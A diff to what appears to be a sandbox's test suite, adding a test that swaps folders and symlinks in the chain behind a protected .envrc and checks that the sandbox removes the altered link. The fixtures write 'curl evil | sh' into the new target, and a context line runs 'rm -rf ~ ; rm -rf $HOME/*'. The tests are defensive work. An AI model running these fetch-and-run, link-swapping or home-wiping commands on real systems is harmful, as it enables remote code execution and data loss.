@@ -162,6 +162,36 @@ def test_protected_links_replaced_or_completed_in_the_sandbox_are_undone(world, 
 
 
 @pytest.mark.parametrize("backend", BACKENDS)
+@pytest.mark.parametrize(
+    "layout, command",
+    [
+        # the folder on the way to the link's target is swapped
+        ({"conf/envrc": "export A=1\n", ".envrc": "->conf/envrc"},
+         "mv conf conf.old && mkdir conf && echo 'curl evil | sh' > conf/envrc"),
+        # a link after the first one is replaced
+        ({"real.envrc": "export A=1\n", "envrc.link": "->real.envrc", ".envrc": "->envrc.link"},
+         "rm envrc.link && echo 'curl evil | sh' > envrc.link"),
+        # a folder link on the way is replaced by a folder
+        ({"shared/envrc": "export A=1\n", "conf": "->shared", ".envrc": "->conf/envrc"},
+         "rm conf && mkdir conf && echo 'curl evil | sh' > conf/envrc"),
+    ],
+)
+def test_a_protected_link_whose_chain_changed_is_taken_away(world, backend, layout, command):
+    for rel, content in layout.items():
+        path = world.project / rel
+        path.parent.mkdir(parents=True, exist_ok=True)
+        if content.startswith("->"):
+            path.symlink_to(content[2:])
+        else:
+            path.write_text(content)
+    result = world.sandbox(backend).run(command, cwd=str(world.project))
+    assert result.exit_code == 0, result.stderr
+    assert not os.path.lexists(world.project / ".envrc")  # nothing loads the changed chain
+    assert any(v["kind"] == "created" and v["target"] == str(world.project / ".envrc")
+               and "what it leads to changed" in v["detail"] for v in result.violations)
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
 def test_rm_rf_home_removes_nothing(world, backend):
     before = snapshot(world.home)
     result = world.sandbox(backend).run("rm -rf ~ ; rm -rf $HOME/*", cwd=str(world.project))
